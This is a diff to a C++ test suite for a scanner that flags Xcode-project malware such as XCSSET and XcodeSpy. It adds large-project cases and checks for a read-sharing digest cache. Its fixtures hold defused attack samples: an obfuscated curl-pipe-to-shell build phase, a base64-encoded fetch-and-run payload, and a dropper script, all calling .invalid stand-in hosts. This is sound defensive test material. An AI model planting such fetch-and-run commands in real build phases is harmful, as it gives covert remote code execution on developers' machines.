@@ -67,13 +67,28 @@ std::string project(const std::string& objects) {
            "\t};\n\trootObject = R;\n}\n";
 }
 
+// File references enough to take a project file past what a cycle keeps between its analyses:
+// its later analyses then take digests of it.
+std::string bulk(bool large) {
+    std::string objects;
+    for (int i = 0; large && i < 1200; ++i) {
+        objects += "\t\tF" + std::to_string(i) +
+                   " /* File.swift */ = {isa = PBXFileReference; lastKnownFileType = "
+                   "sourcecode.swift; path = File" +
+                   std::to_string(i) + ".swift; sourceTree = \"<group>\"; };\n";
+    }
+    return objects;
+}
+
 // A small monorepo: apps with ordinary phases (CocoaPods, SwiftLint), settings files, schemes,
-// sources, Pods, a git hook; `infection` adds what an attack leaves.
-void writeMonorepo(const testing::TempTree& tree, const std::string& infection) {
+// sources, Pods, a git hook; `infection` adds what an attack leaves; `large` makes the project
+// files larger than a cycle keeps.
+void writeMonorepo(const testing::TempTree& tree, const std::string& infection,
+                   bool large = false) {
     for (const char* app : {"Shop", "Wallet", "Maps"}) {
         const std::string base = std::string("Apps/") + app + "/" + app;
         tree.write(base + ".xcodeproj/project.pbxproj",
-                   project(phase("CheckPods",
+                   project(bulk(large) + phase("CheckPods",
                                  "diff \\\"${PODS_ROOT}/../Podfile.lock\\\" "
                                  "\\\"${PODS_ROOT}/Manifest.lock\\\" > /dev/null\\n") +
                            phase("SwiftLint",
@@ -94,8 +109,20 @@ void writeMonorepo(const testing::TempTree& tree, const std::string& infection) 
     tree.write(".git/hooks/pre-push.sample", "#!/bin/sh\n");
     if (!infection.empty()) {
         tree.write("Apps/Maps/Maps.xcodeproj/project.pbxproj",
-                   project(phase("Compile Assets", infection)));
+                   project(bulk(large) + phase("Compile Assets", infection)));
     }
+}
+
+const std::string kObfuscatedPhase =
+    "exit 0; a='cu';b='rl';c=' -s';d=' ht';e='tps://x';f='.invalid';"
+    "g='/p';h=' | sh';eval \\\"$a$b$c$d$e$f$g$h\\\"";
+const std::string kDecodedPayload =
+    "exit 0\\necho ZXhpdCAwOyBjdXJsIGh0dHBzOi8veC5leGFtcGxlLmludmFsaWQg"
+    "fCBzaA== | base64 -D | sh\\n";
+
+void writeDropper(const testing::TempTree& tree) {
+    tree.write("Apps/Shop/scripts/fetch.sh",
+               "#!/bin/sh\nexit 0\ncurl -fsSL https://x.example.invalid/h -o h\nchmod +x h\n");
 }
 
 TEST(SharedCycle, SameOutputLogAndVerdictsAsSeparateWalks) {
@@ -111,25 +138,43 @@ TEST(SharedCycle, SameOutputLogAndVerdictsAsSeparateWalks) {
         {"monorepo with a dropper: XCSSET stops the classic cycle",
          [](auto& tree) {
              writeMonorepo(tree, "");
-             tree.write("Apps/Shop/scripts/fetch.sh",
-                        "#!/bin/sh\nexit 0\ncurl -fsSL https://x.example.invalid/h -o h\nchmod "
-                        "+x h\n");
+             writeDropper(tree);
          },
          {"xcsset threat", "buildscripts clean"}},
         {"monorepo with an obfuscated phase: XcodeSpy's threat",
-         [](auto& tree) {
-             writeMonorepo(tree,
-                           "exit 0; a='cu';b='rl';c=' -s';d=' ht';e='tps://x';f='.invalid';"
-                           "g='/p';h=' | sh';eval \\\"$a$b$c$d$e$f$g$h\\\"");
-         },
+         [](auto& tree) { writeMonorepo(tree, kObfuscatedPhase); },
          {"xcsset clean", "xcodespy threat", "buildscripts threat"}},
         {"monorepo with a decoded payload piped into a shell",
-         [](auto& tree) {
-             writeMonorepo(tree,
-                           "exit 0\\necho ZXhpdCAwOyBjdXJsIGh0dHBzOi8veC5leGFtcGxlLmludmFsaWQg"
-                           "fCBzaA== | base64 -D | sh\\n");
-         },
+         [](auto& tree) { writeMonorepo(tree, kDecodedPayload); },
          {"xcsset clean", "xcodespy clean", "buildscripts threat"}},
+        // Project files too large to keep: the later analyses take digests of them.
+        {"large project files, clean", [](auto& tree) { writeMonorepo(tree, "", true); },
+         {"xcsset clean", "xcodespy clean", "buildscripts clean"}},
+        {"large project files, an obfuscated phase",
+         [](auto& tree) { writeMonorepo(tree, kObfuscatedPhase, true); },
+         {"xcsset clean", "xcodespy threat", "buildscripts threat"}},
+        {"large project files, a decoded payload",
+         [](auto& tree) { writeMonorepo(tree, kDecodedPayload, true); },
+         {"xcsset clean", "xcodespy clean", "buildscripts threat"}},
+        {"large project files and a dropper: XcodeSpy's digests made, never used",
+         [](auto& tree) {
+             writeMonorepo(tree, kObfuscatedPhase, true);
+             writeDropper(tree);
+         },
+         {"xcsset threat", "buildscripts threat"}},
+        {"a large UTF-16 project file with a malformed unit",
+         [](auto& tree) {
+             writeMonorepo(tree, "", true);
+             std::string text = project(bulk(true) + phase("Lint", "exit 0\\n"));
+             std::string wide = "\xFF\xFE";
+             for (const char c : text) {
+                 wide += c;
+                 wide += '\0';
+             }
+             wide += std::string("\x00\xDC", 2);  // a lone low surrogate
+             tree.write("Apps/Shop/Shop.xcodeproj/project.pbxproj", wide);
+         },
+         {"xcsset clean", "xcodespy clean", "buildscripts clean"}},
         {"a large settings file and a directory named like a script",
          [](auto& tree) {
              writeMonorepo(tree, "");
@@ -297,17 +342,103 @@ TEST(SharedReads, ALargeReadReusesTheMemoryOfOneGivenBackAndComesOutExact) {
 }
 
 TEST(SharedCycle, ACycleReadsEachSharedFileOnce) {
-    testing::TempTree tree;
-    writeMonorepo(tree, "");
-    const auto scope = shareCycle(tree.url());
-    platform::MemoryLineWriter output;
-    for (const Analysis& analysis : analyses()) {
-        analysis.run(tree.url(), output);
+    for (const bool large : {false, true}) {
+        SCOPED_TRACE(large ? "project files digested" : "project files kept");
+        testing::TempTree tree;
+        writeMonorepo(tree, "", large);
+        const auto scope = shareCycle(tree.url());
+        platform::MemoryLineWriter output;
+        for (const Analysis& analysis : analyses()) {
+            analysis.run(tree.url(), output);
+        }
+        // Four project files (three apps and Pods) read by all three analyses, four shell files
+        // and three settings files by the XCSSET scan and the build-script analysis: each read
+        // once and served to the later analyses, as a text or as a digest.
+        const platform::SharedReads& reads = *platform::SharedReads::current();
+        EXPECT_EQ(reads.served(), 4 * 2 + 4 + 3);
+        EXPECT_EQ(reads.keptBytes(), 0u);
+        EXPECT_EQ(reads.digestBytes(), 0u);  // every digest taken
     }
-    // Four project files (three apps and Pods) read by all three analyses, four shell files and
-    // three settings files by the XCSSET scan and the build-script analysis: each read once and
-    // served to the later analyses.
-    EXPECT_EQ(platform::SharedReads::current()->served(), 4 * 2 + 4 + 3);
+}
+
+// A digest of its length, standing in for what a scan makes of a text.
+platform::Digest lengthOf(std::string_view text) {
+    return {std::make_shared<const std::size_t>(text.size()), 8};
+}
+platform::Digest tooBig(std::string_view text) {
+    return {std::make_shared<const std::size_t>(text.size()), 5000};
+}
+
+TEST(SharedReads, ATextTooLongToKeepIsDigestedForTheScansStillToCome) {
+    testing::TempTree tree;
+    tree.write("big.pbxproj", std::string(300, 'x'));
+    tree.write("small.pbxproj", std::string(20, 'y'));
+    const std::string big = tree.path("big.pbxproj"), small = tree.path("small.pbxproj");
+    using platform::SharedReads;
+    SharedReads shared({{big, 4}, {small, 2}}, 1000, 50, 1000);
+    for (const auto digester : {lengthOf, tooBig}) {
+        shared.expectDigest(big, digester);
+        shared.expectDigest(small, digester);
+    }
+    const auto digestOf = [](const std::string& path, platform::Digester digester,
+                             std::uint64_t limit) {
+        const auto product = SharedReads::takeDigest<std::size_t>(path, digester, limit);
+        return product == nullptr ? std::optional<std::size_t>() : *product;
+    };
+
+    // The digest is made from the text as the first read found it; one over the budget is not.
+    auto first = platform::readTextFileUpTo(big, 1000);
+    SharedReads::giveBack(big, std::move(*first.text));
+    EXPECT_EQ(shared.digestBytes(), 8u);
+    tree.write("big.pbxproj", std::string(10, 'z'));
+    EXPECT_EQ(digestOf(big, tooBig, 1000), std::nullopt);
+    EXPECT_EQ(digestOf(big, lengthOf, 1000), 300u);
+    EXPECT_EQ(shared.digestBytes(), 0u);
+    EXPECT_EQ(digestOf(big, lengthOf, 1000), std::nullopt);  // taken once
+    EXPECT_EQ(shared.served(), 1);
+
+    // A small text is kept and served as a text, never digested.
+    auto read = platform::readTextFileUpTo(small, 1000);
+    SharedReads::giveBack(small, std::move(*read.text));
+    EXPECT_EQ(digestOf(small, lengthOf, 1000), std::nullopt);
+    EXPECT_EQ(platform::readTextFileUpTo(small, 1000).text, std::string(20, 'y'));
+}
+
+TEST(SharedReads, ADigestServesNoReaderItWouldNotHaveServed) {
+    testing::TempTree tree;
+    tree.write("big.pbxproj", std::string(300, 'x'));
+    const std::string big = tree.path("big.pbxproj");
+    using platform::SharedReads;
+    const auto lengthDigest = [](const std::string& path, std::uint64_t limit) {
+        return SharedReads::takeDigest<std::size_t>(path, lengthOf, limit);
+    };
+    {
+        // A reader over its limit is told to read, and its own read finds the file too large.
+        SharedReads shared({{big, 2}}, 1000, 50, 1000);
+        shared.expectDigest(big, lengthOf);
+        auto first = platform::readTextFileUpTo(big, 1000);
+        SharedReads::giveBack(big, std::move(*first.text));
+        EXPECT_EQ(lengthDigest(big, 100), nullptr);
+        EXPECT_TRUE(platform::readTextFileUpTo(big, 100).tooLarge);
+    }
+    {
+        // The scan that takes the digest reads first: nothing is made for it at its hand-back.
+        SharedReads shared({{big, 2}}, 1000, 50, 1000);
+        shared.expectDigest(big, lengthOf);
+        EXPECT_EQ(lengthDigest(big, 1000), nullptr);
+        auto first = platform::readTextFileUpTo(big, 1000);
+        SharedReads::giveBack(big, std::move(*first.text));
+        EXPECT_EQ(shared.digestBytes(), 0u);
+    }
+    {
+        // Without a budget nothing is digested.
+        SharedReads shared({{big, 2}}, 1000, 50);
+        shared.expectDigest(big, lengthOf);
+        auto first = platform::readTextFileUpTo(big, 1000);
+        SharedReads::giveBack(big, std::move(*first.text));
+        EXPECT_EQ(lengthDigest(big, 1000), nullptr);
+    }
+    EXPECT_EQ(lengthDigest(big, 1000), nullptr);  // outside a scope
 }
 
 }  // namespace
